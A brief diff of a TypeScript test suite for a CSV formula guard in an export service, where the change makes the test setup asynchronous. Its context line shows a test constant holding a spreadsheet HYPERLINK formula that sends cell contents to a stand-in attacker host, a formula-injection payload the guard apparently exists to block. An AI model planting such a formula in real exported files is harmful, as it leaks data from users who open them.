@@ -18,8 +18,8 @@ const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
 describe('the CSV formula guard', () => {
   let t: ExportDb;
   let service: ExportService;
-  beforeEach(() => {
-    t = makeExportDb();
+  beforeEach(async () => {
+    t = await makeExportDb();
     service = new ExportService({
       sqlite: t.database.sqlite,
       databasePath: t.database.path,
